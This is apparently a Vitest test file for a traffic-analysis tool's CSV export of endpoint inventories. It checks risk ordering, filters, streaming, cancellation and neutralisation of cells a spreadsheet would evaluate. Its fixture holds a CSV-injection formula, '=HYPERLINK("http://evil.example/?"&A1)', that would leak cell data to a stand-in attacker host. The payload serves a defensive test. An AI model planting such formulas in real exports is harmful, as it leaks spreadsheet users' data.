import { readFileSync } from 'node:fs';
import { Writable } from 'node:stream';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportQuerySchema } from '../../shared/contract/exportApi.js';
import { ENDPOINT_EXPORT_HEADER, endpointCells } from '../../shared/export/endpointColumns.js';
import { unNeutralizeCell } from '../../shared/export/csvCells.js';
import { seedSource, type SeedRequest } from '../../test/fixtures/analysis/seedCase.js';
import { tempWorkspace } from '../../test/tempCase.js';
import { rebuild } from '../analysis/rebuild.js';
import { listEndpointPage } from '../query/endpointPage.js';
import { listEndpoints } from '../query/endpointsQuery.js';
import type { CaseDb } from '../store/openCase.js';
import { countExportRows, exportCsv, writeExportRows } from './exportCsv.js';
import { exportFileName } from './exportFileName.js';
import { hostKey } from '../../shared/analysis/hostName.js';

const T0 = Date.UTC(2026, 2, 12) * 1000;
/** A Host header a spreadsheet would evaluate (a template always starts with '/'). */
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1)';

/** Endpoints of several risks: an admin one, one with a card number, a formula as host. */
function capture(): SeedRequest[] {
  const paths = ['/admin/users', '/pay', '/a', '/b', '/evil', '/login', '/users/1', '/users/2'];
  return paths.flatMap((p, k) =>
    Array.from({ length: 3 + k }, (_, i) => ({
      tsUs: T0 + (k * 100 + i) * 1e6,
      ip: `10.0.0.${k}`,
      userAgent: 'ua',
      method: k % 3 === 0 ? 'POST' : 'GET',
      host: p === '/evil' ? FORMULA : 'shop.example',
      path: p,
      query: p === '/pay' ? 'card_number=4111111111111111' : null,
      status: i % 4 === 0 ? 500 : 200,
      latencyMs: 10 + i,
      respBytes: 100 + k,
    })),
  );
}

const ws = tempWorkspace('ss-endpoint-export-');
let db: CaseDb;
beforeAll(() => {
  db = ws.openCase();
  seedSource(db, 'e', capture());
  rebuild(db);
});
afterAll(() => ws.cleanup());

function parse(text: string): string[][] {
  return Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
}

describe('endpoint inventory export', () => {
  it('writes every endpoint, riskiest first, with the cells the inventory shows', async () => {
    const out = ws.file('x.csv', '');
    const r = await exportCsv(db, out, { table: 'endpoints', pageSize: 3 });
    const rows = parse(readFileSync(out, 'utf8'));
    expect(rows[0]).toEqual([...ENDPOINT_EXPORT_HEADER]);
    const all = listEndpointPage(db, { sort: 'risk', dir: 'desc', limit: 1000 }).items;
    expect(all.length).toBeGreaterThan(6);
    expect(r.rows).toBe(all.length);
    expect(countExportRows(db, { table: 'endpoints' })).toBe(all.length);
    // Page by page (3 a page) in the view's risk order, each row the endpoint's cells.
    expect(rows.slice(1).map((row) => row.map(unNeutralizeCell))).toEqual(
      all.map((e) => endpointCells(e).map((c) => (c === null ? '' : String(c)))),
    );
    const scores = rows.slice(1).map((row) => Number(row[15]));
    expect(scores).toEqual([...scores].sort((a, b) => b - a));
    // Risk with its factors, and the error share.
    const pay = rows.find((row) => row[3] === '/pay')!;
    expect(pay[16]).toBe('High');
    expect(pay[17]).toMatch(/^sensitive-params \(8\): /);
    const admin = rows.find((row) => row[3] === '/admin/users')!;
    expect(admin[8]).toBe(String(Math.round((1 / 3) * 10_000) / 10_000));
  });

  it('writes only the endpoints that match the filters, as the view lists them', async () => {
    const out = ws.file('f.csv', '');
    const filters = { levels: ['High' as const] };
    const r = await exportCsv(db, out, { table: 'endpoints', endpointFilters: filters });
    const want = listEndpointPage(db, { sort: 'risk', dir: 'desc', filters }).items;
    expect(want.length).toBeGreaterThan(0);
    expect(want.length).toBeLessThan(listEndpoints(db).length);
    expect(r.rows).toBe(want.length);
    expect(countExportRows(db, { table: 'endpoints', endpointFilters: filters })).toBe(want.length);
    expect(
      parse(readFileSync(out, 'utf8'))
        .slice(1)
        .map((row) => row[0]),
    ).toEqual(want.map((e) => e.id));
    // Endpoint filters belong to an endpoints export only.
    expect(exportQuerySchema.safeParse({ endpointFilters: filters }).success).toBe(false);
    expect(
      exportQuerySchema.safeParse({ table: 'endpoints', endpointFilters: { levels: ['Nope'] } })
        .success,
    ).toBe(false);
  });

  it('neutralizes a host a spreadsheet would evaluate', async () => {
    const out = ws.file('f.csv', '');
    await exportCsv(db, out, { table: 'endpoints' });
    const text = readFileSync(out, 'utf8');
    // The endpoint names the host as DNS compares it (its letters A-Z in lower case).
    const host = hostKey(FORMULA);
    expect(text).toContain(`"'${host.replaceAll('"', '""')}"`);
    const e = listEndpoints(db).find((x) => x.host === host)!;
    const row = parse(text).find((r) => r[0] === e.id)!;
    expect(row[2]).toBe(`'${host}`);
    expect(unNeutralizeCell(row[2]!)).toBe(host);
  });

  it('streams to any writable, names the file, and refuses a session with it', async () => {
    const chunks: string[] = [];
    const sink = new Writable({
      write(chunk: Buffer, _enc, done) {
        chunks.push(chunk.toString('utf8'));
        done();
      },
    });
    const progress: number[] = [];
    const r = await writeExportRows(db, sink, {
      table: 'endpoints',
      bom: true,
      pageSize: 4,
      onProgress: (p) => progress.push(p.rows),
    });
    expect(chunks.join('').startsWith('\uFEFFendpoint_id,method,')).toBe(true);
    expect(progress.at(-1)).toBe(r.rows);
    expect(progress.length).toBe(Math.ceil(r.rows / 4));
    expect(exportFileName('/cases/My Case.sscase', { table: 'endpoints' })).toBe(
      'My_Case-endpoints.csv',
    );
    expect(exportQuerySchema.safeParse({ table: 'endpoints' }).success).toBe(true);
    expect(
      exportQuerySchema.safeParse({ table: 'endpoints', sessionId: 's0123456789abcdef' }).success,
    ).toBe(false);
  });

  it('stops between pages when cancelled, writing no further rows', async () => {
    const controller = new AbortController();
    controller.abort();
    const sink = new Writable({ write: (_c, _e, done) => done() });
    await expect(
      writeExportRows(db, sink, { table: 'endpoints', signal: controller.signal }),
    ).rejects.toMatchObject({ code: 'CANCELLED' });
  });
});
